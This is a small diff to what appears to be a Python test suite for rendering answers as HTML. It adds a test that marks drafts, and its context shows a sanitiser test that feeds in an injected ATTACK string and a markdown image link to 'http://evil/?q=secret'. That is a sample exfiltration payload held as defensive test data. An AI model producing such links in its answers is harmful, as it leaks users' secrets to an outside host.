@@ -226,6 +226,10 @@ def test_a_checked_sentence_that_is_not_in_the_answer_changes_nothing() -> None:
     assert html == '<div class="rw-answer">Yes.</div>'
 
 
+def test_a_draft_is_told_from_an_answer() -> None:
+    assert view.answer_html("Yes.", writing=True).startswith('<div class="rw-answer rw-draft">Yes.')
+
+
 def test_an_answer_cannot_bring_markup_or_pictures() -> None:
     html = view.answer_html(f"{ATTACK} ![p](http://evil/?q=secret) [1]", [CITED])
     assert not re.search(r"<(?!/?(div|a)\b)", html)
